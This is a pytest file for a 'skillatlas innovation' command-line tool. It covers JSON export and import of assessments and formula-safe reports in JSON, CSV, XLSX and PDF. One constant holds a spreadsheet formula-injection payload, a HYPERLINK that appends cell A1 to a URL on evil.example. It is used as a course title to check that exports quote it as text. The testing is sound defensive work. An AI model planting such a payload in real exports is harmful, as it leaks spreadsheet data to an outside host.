"""`skillatlas innovation`: export and import as JSON, the report as JSON, CSV, XLSX and PDF; formula-safe cells."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from skillatlas.auth.permissions import SYSTEM
from skillatlas.cli import app
from skillatlas.db import unit_of_work
from skillatlas.innovation import service
from skillatlas.learning import service as learning
from skillatlas.learning.schemas import CourseIn
from tests.innovation.conftest import LEVELS, run_assessment
from tests.learning.conftest import BMS

runner = CliRunner()
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _assessed(sessions: sessionmaker[Session]) -> int:
    with unit_of_work(sessions) as db:
        # a provider's course whose title is a formula, cheap enough to be suggested for the BMS gap
        learning.save_courses(db=db, actor=SYSTEM, provider="educam",
                              items=[CourseIn(code="EVIL-1", title=EVIL, hours=1, price_eur=1,
                                              skills=[{"uri": BMS, "level": "expert"}])])  # fmt: skip
        found = run_assessment(db, "aco", LEVELS)
        first = found.question_set.clauses[0].questions[0].id
        return found.id, first  # type: ignore[return-value]


def test_export_and_import_round_trip(
    cli_env: dict[str, str], sessions: sessionmaker[Session], question_set: int, tmp_path: Path
) -> None:
    assessment_id, _ = _assessed(sessions)
    out = tmp_path / "assessment.json"
    result = runner.invoke(app, ["innovation", "export", str(assessment_id), "--out", str(out)])
    assert result.exit_code == 0, result.output
    exported = json.loads(out.read_text())
    assert (
        exported["organisation"] == "aco"
        and exported["version"] == question_set
        and len(exported["answers"]) == 14
    )
    result = runner.invoke(app, ["innovation", "import", str(out)])
    assert result.exit_code == 0, result.output
    with unit_of_work(sessions) as db:
        mine = service.list_assessments(db=db, actor=SYSTEM, organisation="aco")
        assert len(mine) == 2 and {a.overall for a in mine} == {45.3}
        copy = max(a.id for a in mine)
        again = service.export_assessment(db=db, actor=SYSTEM, assessment_id=copy)
    assert again["answers"] == exported["answers"]
    # an answer to a question the version does not hold is refused, and nothing is kept
    exported["answers"][0]["question"] = "A question never asked?"
    out.write_text(json.dumps(exported))
    result = runner.invoke(app, ["innovation", "import", str(out)])
    assert result.exit_code == 2 and "differs from version" in result.output
    with unit_of_work(sessions) as db:
        assert len(service.list_assessments(db=db, actor=SYSTEM, organisation="aco")) == 2
    exported["answers"][0]["question"] = exported["answers"][1]["question"]
    exported["answers"][1]["level"] = None  # a level left out: one line in words, no stack trace
    out.write_text(json.dumps({**exported, "answers": exported["answers"][1:]}))
    result = runner.invoke(app, ["innovation", "import", str(out)])
    assert result.exit_code == 2 and result.output.startswith("error:"), result.output
    out.write_text('{"format": "something else"}')
    assert runner.invoke(app, ["innovation", "import", str(out)]).exit_code == 2


def test_reports_in_four_formats_are_formula_safe(
    cli_env: dict[str, str], sessions: sessionmaker[Session], question_set: int, tmp_path: Path
) -> None:
    assessment_id, _ = _assessed(sessions)
    result = runner.invoke(app, ["innovation", "report", str(assessment_id), "--format", "json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["results"]["overall"] == 45.3
    assert {b["dimension"]: b["enough"] for b in data["benchmarks"]} == dict.fromkeys(
        ("sector", "size", "country", "type"), False
    )
    assert "EVIL-1" in [c["code"] for c in data["suggestions"]["courses"]]

    result = runner.invoke(app, ["innovation", "report", str(assessment_id), "--format", "csv"])
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.output)))
    assert (
        rows[0][:4] == ["Clause", "Title", "Weight", "Score"]
        and rows[8][1] == "Overall"
        and rows[8][3] == "45.3"
    )
    evil = next(r for r in rows if r and r[0] == "EVIL-1")
    assert evil[1] == "'" + EVIL  # quoted: a spreadsheet shows it as text

    xlsx = tmp_path / "report.xlsx"
    assert (
        runner.invoke(
            app, ["innovation", "report", str(assessment_id), "-f", "xlsx", "-o", str(xlsx)]
        ).exit_code
        == 0
    )
    book = load_workbook(xlsx)
    cells = [c for row in book["Training"].iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert book["Scores"]["D11"].value == 45.3  # the overall row: title rows, header, seven clauses

    pdf = tmp_path / "report.pdf"
    assert (
        runner.invoke(
            app, ["innovation", "report", str(assessment_id), "-f", "pdf", "-o", str(pdf)]
        ).exit_code
        == 0
    )
    assert pdf.read_bytes().startswith(b"%PDF")
    bad = runner.invoke(app, ["innovation", "report", str(assessment_id), "--format", "doc"])
    assert bad.exit_code == 2 and "json, csv, xlsx, pdf" in bad.output


def test_list_and_questions(
    cli_env: dict[str, str], sessions: sessionmaker[Session], question_set: int
) -> None:
    _assessed(sessions)
    listing = runner.invoke(app, ["innovation", "list", "--organisation", "aco"])
    assert listing.exit_code == 0 and "Automobile Club" in listing.output and "45.3" in listing.output
    shown = runner.invoke(app, ["innovation", "questions"])
    assert shown.exit_code == 0 and json.loads(shown.output)["version"] == question_set
